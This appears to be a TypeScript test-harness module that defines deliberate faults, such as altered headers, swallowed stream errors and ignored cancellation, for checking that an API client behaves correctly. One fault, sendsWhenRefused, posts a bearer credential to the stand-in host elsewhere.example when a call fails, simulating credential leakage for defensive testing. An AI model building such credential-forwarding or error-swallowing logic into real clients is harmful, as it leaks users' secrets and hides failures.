import type { CallOptions, Case, Connection, Subject, SubjectOptions } from "../case.ts";

/** Makes a subject that breaks a claim. */
export type Fault = Case["negative"];

/** A request on its way to the transport, open to changes. */
export type Departing = RequestInit & { url: string; headers: Headers };

/** Changes requests after they were authenticated. */
export function sends(change: (request: Departing) => void | Promise<void>): Fault {
  return onTransport((fetch) => async (input, init) => {
    const url = input instanceof Request ? input.url : String(input);
    const departing = { ...init, url, headers: new Headers(init?.headers) };
    await change(departing);
    return await fetch(departing.url, departing);
  });
}

/** Sets or, given `undefined`, removes a header after authentication. */
export function sendsHeader(name: string, value: string | undefined): Fault {
  return sends(({ headers }) =>
    value === undefined ? headers.delete(name) : headers.set(name, value)
  );
}

/** Changes answers before the client sees them. */
export function receives(change: (answer: Response) => Response | Promise<Response>): Fault {
  return onTransport((fetch) => async (input, init) => await change(await fetch(input, init)));
}

/** Changes the text of answers, which then comes in one piece. */
export function receivesText(change: (text: string) => string): Fault {
  return receives(async (answer) => {
    const { status, headers } = answer;
    return new Response(change(await answer.text()), { status, headers });
  });
}

/** Makes every request twice. */
export const sendsTwice: Fault = onTransport((fetch) => async (input, init) => {
  await (await fetch(input, init)).body?.cancel();
  return await fetch(input, init);
});

/** Forgets or replaces what the subject was configured with. */
export function configures(change: (options: SubjectOptions) => SubjectOptions): Fault {
  return (subject) => ({
    ...subject,
    connect: (options, fetch) => subject.connect(change(options), fetch),
  });
}

/** Forgets or replaces options of calls. */
export function calls(change: (options: CallOptions) => CallOptions): Fault {
  return onConnection((connection) => changed(connection, change));
}

function changed(
  connection: Connection,
  change: (options: CallOptions) => CallOptions,
): Connection {
  const { call, respond, streamResponse, chat, streamChat, upload, derive } = connection;
  return {
    ...connection,
    derive: derive && (async (options) => changed(await derive(options), change)),
    call: call && ((method, path, options) => call(method, path, change(options ?? {}))),
    respond: respond && ((question, options) => respond(question, change(options ?? {}))),
    streamResponse: streamResponse &&
      ((question, options) => streamResponse(question, change(options ?? {}))),
    chat: chat && ((question, options) => chat(question, change(options ?? {}))),
    streamChat: streamChat && ((question, options) => streamChat(question, change(options ?? {}))),
    upload: upload && ((file, purpose, options) => upload(file, purpose, change(options ?? {}))),
  };
}

/** Looks at no signal. */
export const deaf: Fault = calls(({ signal: _, transportSignal: __, ...options }) => options);

/** Changes what a connection does. */
export function onConnection(change: (connection: Connection) => Connection): Fault {
  return (subject) => ({
    ...subject,
    connect: async (options, fetch) => change(await subject.connect(options, fetch)),
  });
}

/** Ends streams quietly where they fail. */
export const endsQuietly: Fault = onConnection(({ streamResponse, ...rest }) => ({
  ...rest,
  async *streamResponse(...args) {
    try {
      yield* streamResponse?.(...args) ?? [];
    } catch {
      // As if it had ended
    }
  },
}));

/** Leaves streams open that its caller leaves. */
export const neverLeaves: Fault = onConnection(({ streamResponse, streamChat, ...rest }) => ({
  ...rest,
  streamResponse: streamResponse && ((...args) => withoutReturn(streamResponse(...args))),
  streamChat: streamChat && ((...args) => withoutReturn(streamChat(...args))),
}));

function withoutReturn<T>(stream: AsyncIterable<T>): AsyncIterable<T> {
  const pieces = stream[Symbol.asyncIterator]();
  return { [Symbol.asyncIterator]: () => ({ next: () => pieces.next() }) };
}

/** Sends a credential elsewhere where the subject refuses to send at all. */
export const sendsWhenRefused: Fault = (subject) => ({
  ...subject,
  async connect(options, fetch) {
    const leak = async () => {
      const headers = { authorization: "Bearer leaked" };
      return await (await fetch("https://elsewhere.example/", { method: "POST", headers })).json();
    };
    const { call, respond }: Connection = await subject.connect(options, fetch).catch(() => ({}));
    return {
      call: (...args) => call?.(...args).catch(leak) ?? leak(),
      respond: (...args) => respond?.(...args).catch(leak) ?? leak(),
    };
  },
});

function onTransport(change: (fetch: typeof globalThis.fetch) => typeof globalThis.fetch): Fault {
  return (subject: Subject) => ({
    ...subject,
    connect: (options, fetch) => subject.connect(options, change(fetch)),
  });
}
